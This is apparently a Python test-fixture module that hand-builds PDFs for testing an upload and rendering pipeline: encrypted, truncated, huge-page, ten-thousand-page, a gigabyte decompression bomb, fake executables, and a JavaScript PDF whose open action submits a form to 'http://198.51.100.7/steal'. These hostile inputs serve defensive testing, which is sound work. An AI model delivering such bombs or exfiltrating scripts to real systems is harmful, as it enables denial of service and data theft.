"""PDF files for tests and benchmarks, built in code (no binary fixtures in the tree).

Every builder returns bytes. The PDFs are written by hand (objects, xref table,
trailer) so that each one is exactly the case it names: a genuinely encrypted file
(RC4, standard security handler, revision 2), a file cut in the middle, an
/OpenAction with JavaScript, ten thousand pages made of one page object, a content
stream that inflates to a gigabyte. ``upload()`` wraps bytes as an uploaded file.
"""

from __future__ import annotations

import hashlib
import zlib
from collections.abc import Sequence
from functools import lru_cache

from django.core.files.uploadedfile import SimpleUploadedFile

A4 = (595, 842)
LETTER_LANDSCAPE = (792, 612)
USER_PASSWORD = "secret"
BOMB_INFLATED_MIB = 1024


# --- Writing PDF files -----------------------------------------------------------------


def build_pdf(objects: Sequence[bytes], *, root: int = 1, trailer_extra: bytes = b"", version: bytes = b"1.7") -> bytes:
    """A PDF whose object ``n`` (1-based) is ``objects[n - 1]``, with a correct xref."""
    out = bytearray(b"%PDF-" + version + b"\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root %d 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, root, trailer_extra, xref)
    return bytes(out)


def stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n" % (len(data), extra) + data + b"\nendstream"


def _text(value: str) -> bytes:
    escaped = value.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
    return b"(" + escaped.encode("latin-1") + b")"


def page_content(number: int, width: float, height: float) -> bytes:
    """Something to see on a page: a coloured band, a frame, a big page number and a
    few lines of text (Helvetica, one of the standard fonts every renderer has)."""
    red, green, blue = ((number * 37) % 100) / 100, ((number * 61) % 100) / 100, ((number * 89) % 100) / 100
    lines = [
        b"%.2f %.2f %.2f rg 0 %.1f %.1f %.1f re f" % (red, green, blue, height * 0.85, width, height * 0.15),
        b"0 0 0 RG 4 w 20 20 %.1f %.1f re S" % (width - 40, height - 40),
        b"0 0 0 rg BT /F1 %d Tf %.1f %.1f Td %s Tj ET" % (int(min(width, height) / 6), width * 0.1, height * 0.5, _text(f"Page {number}")),
    ]
    for row in range(8):
        y = height * 0.4 - row * 18
        lines.append(
            b"BT /F1 12 Tf %.1f %.1f Td %s Tj ET" % (width * 0.1, y, _text(f"Line {row + 1} of page {number}: the quick brown fox."))
        )
    return b"\n".join(lines)


def multi_page_pdf(pages: int = 3, *, sizes: Sequence[tuple[float, float]] | None = None, compress: bool = True) -> bytes:
    """``pages`` pages, each with its number written large; ``sizes`` (points) cycle
    over the pages (A4 portrait by default)."""
    sizes = list(sizes or [A4])
    page_ids = [4 + 2 * index for index in range(pages)]
    objects: list[bytes] = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [%s] /Count %d >>" % (b" ".join(b"%d 0 R" % n for n in page_ids), pages),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    for index in range(pages):
        width, height = sizes[index % len(sizes)]
        content = page_content(index + 1, width, height)
        body = stream(zlib.compress(content), b"/Filter /FlateDecode ") if compress else stream(content)
        objects.append(
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 %s %s] /Resources << /Font << /F1 3 0 R >> >> /Contents %d 0 R >>"
            % (_number(width), _number(height), page_ids[index] + 1)
        )
        objects.append(body)
    return build_pdf(objects)


def _number(value: float) -> bytes:
    return (b"%d" % value) if float(value).is_integer() else (b"%.3f" % value)


def truncated_pdf() -> bytes:
    """The first part of a 40-page PDF: the page tree promises pages that are not there."""
    whole = multi_page_pdf(40)
    return whole[: len(whole) // 3]


def javascript_pdf() -> bytes:
    """A one-page PDF that asks to run JavaScript on opening (an /OpenAction, a
    document-level script in /Names and a form field with a keystroke action)."""
    content = page_content(1, *A4)
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /Names << /JavaScript << /Names [(boot) 6 0 R] >> >>"
        b" /AcroForm << /Fields [7 0 R] >> >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 8 0 R >> >> /Contents 4 0 R /Annots [7 0 R] >>",
        stream(content),
        b"<< /Type /Action /S /JavaScript /JS (app.alert('opened'); this.submitForm('http://198.51.100.7/steal');) >>",
        b"<< /Type /Action /S /JavaScript /JS (app.launchURL('http://198.51.100.7/', true);) >>",
        b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (field) /Rect [100 100 300 130] /P 3 0 R"
        b" /AA << /K << /S /JavaScript /JS (app.alert('key');) >> >> >>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    return build_pdf(objects)


def many_pages_pdf(pages: int = 10_000) -> bytes:
    """``pages`` pages in a few kilobytes: the page tree lists one page object again and again."""
    kids = b" ".join([b"3 0 R"] * pages)
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, pages),
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >>",
        stream(b"0 0 1 rg 20 20 160 160 re f"),
    ]
    return build_pdf(objects)


def huge_page_pdf(side: int = 200_000) -> bytes:
    """One page with a MediaBox of ``side`` × ``side`` points (PDFium accepts it):
    rendered at its natural scale it would be billions of pixels."""
    content = b"0 0 1 rg 0 0 %d %d re f 1 0 0 rg %d %d %d %d re f" % (side, side // 2, side // 4, side // 4, side // 2, side // 4)
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 %d %d] /Contents 4 0 R >>" % (side, side),
        stream(content),
    ]
    return build_pdf(objects)


@lru_cache(maxsize=2)
def _deflated_spaces(mebibytes: int) -> bytes:
    """A zlib stream of ``mebibytes`` MiB of spaces (PDF white space), in about a
    thousandth of that: each MiB is deflated once and repeated after a full flush,
    which makes the deflated pieces independent and identical."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = b" " * 2**20
    first = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)
    repeated = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)
    checksum = 1
    for _ in range(mebibytes):
        checksum = zlib.adler32(block, checksum)
    return b"\x78\xda" + first + repeated * (mebibytes - 1) + compressor.flush() + checksum.to_bytes(4, "big")


def decompression_bomb_pdf(inflated_mib: int = BOMB_INFLATED_MIB, *, side: int = 200_000) -> bytes:
    """A page with a huge MediaBox whose content stream is about 1 MB on disk and
    ``inflated_mib`` MiB once inflated (FlateDecode), followed by a visible square."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 %d %d] /Contents [4 0 R 5 0 R] >>" % (side, side),
        stream(_deflated_spaces(inflated_mib), b"/Filter /FlateDecode "),
        stream(b"0 0 1 rg 0 0 %d %d re f" % (side // 2, side // 2)),
    ]
    return build_pdf(objects)


# --- An encrypted PDF (standard security handler, RC4 40-bit, revision 2) -----------------

_PAD = bytes.fromhex("28BF4E5E4E758A4164004E56FFFA01082E2E00B6D0683E802F0CA9FE6453697A")
_FILE_ID = bytes.fromhex("5061726c6579546573744964656e7469")


def _rc4(key: bytes, data: bytes) -> bytes:
    state = list(range(256))
    j = 0
    for i in range(256):
        j = (j + state[i] + key[i % len(key)]) % 256
        state[i], state[j] = state[j], state[i]
    out = bytearray()
    i = j = 0
    for byte in data:
        i = (i + 1) % 256
        j = (j + state[i]) % 256
        state[i], state[j] = state[j], state[i]
        out.append(byte ^ state[(state[i] + state[j]) % 256])
    return bytes(out)


def _padded(password: str) -> bytes:
    return (password.encode("latin-1") + _PAD)[:32]


def encrypted_pdf(user_password: str = USER_PASSWORD, owner_password: str = "owner-secret") -> bytes:
    """A one-page PDF that opens only with ``user_password`` (PDF 1.4 spec, algorithms
    3.1 to 3.4): a viewer asks for the password, PDFium refuses to load it without."""
    permissions = -4  # everything allowed; the point is the user password
    owner_key = hashlib.md5(_padded(owner_password)).digest()[:5]
    owner_entry = _rc4(owner_key, _padded(user_password))
    key = hashlib.md5(_padded(user_password) + owner_entry + permissions.to_bytes(4, "little", signed=True) + _FILE_ID).digest()[:5]
    user_entry = _rc4(key, _PAD)

    def encrypt(number: int, data: bytes) -> bytes:
        object_key = hashlib.md5(key + number.to_bytes(3, "little") + (0).to_bytes(2, "little")).digest()[:10]
        return _rc4(object_key, data)

    content = encrypt(4, page_content(1, *A4))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 6 0 R >> >> /Contents 4 0 R >>",
        stream(content),
        b"<< /Filter /Standard /V 1 /R 2 /O <%s> /U <%s> /P %d >>" % (owner_entry.hex().encode(), user_entry.hex().encode(), permissions),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    file_id = _FILE_ID.hex().encode()
    return build_pdf(objects, trailer_extra=b"/Encrypt 5 0 R /ID [<%s> <%s>] " % (file_id, file_id), version=b"1.4")


# --- Files that are not PDFs -------------------------------------------------------------


def elf_executable() -> bytes:
    """The start of a 64-bit Linux executable (ELF header, then padding)."""
    header = b"\x7fELF\x02\x01\x01\x00" + bytes(8) + b"\x02\x00\x3e\x00\x01\x00\x00\x00"
    return header + bytes(4096 - len(header))


def pe_executable() -> bytes:
    """The start of a Windows executable: an MZ header pointing at a PE signature."""
    dos = bytearray(b"MZ" + bytes(62))
    dos[0x3C:0x40] = (0x80).to_bytes(4, "little")
    body = bytes(dos) + b"This program cannot be run in DOS mode.\r\n".ljust(0x80 - 64, b"\x00") + b"PE\x00\x00"
    return body + bytes(4096 - len(body))


def late_magic_pdf() -> bytes:
    """A valid PDF preceded by more than 1024 bytes of something else."""
    return b"#!/bin/sh\n" + b"#" * 2000 + b"\n" + multi_page_pdf(1)


def png_image() -> bytes:
    return b"\x89PNG\r\n\x1a\n" + bytes(64)


# --- Uploads -------------------------------------------------------------------------------


def upload(data: bytes, name: str = "document.pdf", content_type: str = "application/pdf") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, data, content_type=content_type)
